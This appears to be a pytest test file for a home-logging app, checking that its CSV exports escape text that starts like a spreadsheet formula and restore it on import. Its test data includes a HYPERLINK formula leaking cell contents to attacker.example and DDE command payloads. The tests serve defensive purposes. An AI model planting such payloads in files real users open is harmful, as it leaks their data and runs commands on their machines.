"""Every CSV homelog writes is safe to open in a spreadsheet: typed text that starts like a
formula stays text, numbers stay numbers, and the quote added comes off again (export.py)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from homelog import tokens
from homelog.export import FORMULA_STARTS, neutralise, unneutralise

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-12.5", "-12.5"),  # a negative number stays a number
        ("+3", "+3"),
        ("-1e-5", "-1e-5"),
        ("-1,5", "-1,5"),
        ("kWh", "kWh"),
        ("", ""),
        ("'=x", "''=x"),  # a typed quote before a formula survives the round trip
        ("'plain", "'plain"),
        ("'-5", "'-5"),
    ],
)
def test_neutralise(typed, written):
    assert neutralise(typed) == written
    assert unneutralise(written) == typed


@given(st.text(alphabet=st.sampled_from(["'", "=", "-", "+", "@", "\t", "1", ".", "a", " "])))
def test_unneutralise_reverses_neutralise(text):
    written = neutralise(text)
    assert unneutralise(written) == text
    # What a spreadsheet reads never starts like a formula, unless it is a number.
    assert written[:1] not in FORMULA_STARTS or float(written.replace(",", ".")) is not None


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.data
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


@pytest.fixture
def risky_source(user, make_source, make_reading):
    source = make_source(user, "Meter", metrics={"=cmd": "@unit", "import": "kWh"})
    make_reading(
        source,
        {"=cmd": -3.5, "import": 1.0},
        timestamp=datetime(2026, 1, 1, tzinfo=UTC),
        note=FORMULA,
    )
    return source


def test_the_readings_export_neutralises_typed_text(logged_in, risky_source):
    rows = _rows(logged_in.get(f"/sources/{risky_source.id}/export.csv", buffered=True))
    assert rows[0][1] == "'=cmd (@unit)"
    assert rows[1][1] == "-3.5"  # a number, not text
    assert rows[1][-1] == "'" + FORMULA
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS or cell == "-3.5", cell


def test_the_api_export_neutralises_typed_text(client, user, risky_source):
    raw, _ = tokens.issue_token(user, "phone")
    rows = _rows(
        client.get(
            f"/api/sources/{risky_source.id}/export.csv",
            headers={"Authorization": f"Bearer {raw}"},
            buffered=True,
        )
    )
    assert rows[1][-1] == "'" + FORMULA
    assert [unneutralise(cell) for cell in rows[0]][1] == "=cmd (@unit)"


def test_the_usage_export_uses_the_same_rule(client, user, risky_source):
    raw, _ = tokens.issue_token(user, "phone")
    rows = _rows(
        client.get(
            f"/api/sources/{risky_source.id}/usage.csv",
            headers={"Authorization": f"Bearer {raw}"},
        )
    )
    headers = [cell for cell in rows[0] if "cmd" in cell]
    assert headers and all(cell.startswith("'=cmd (@unit)") for cell in headers)
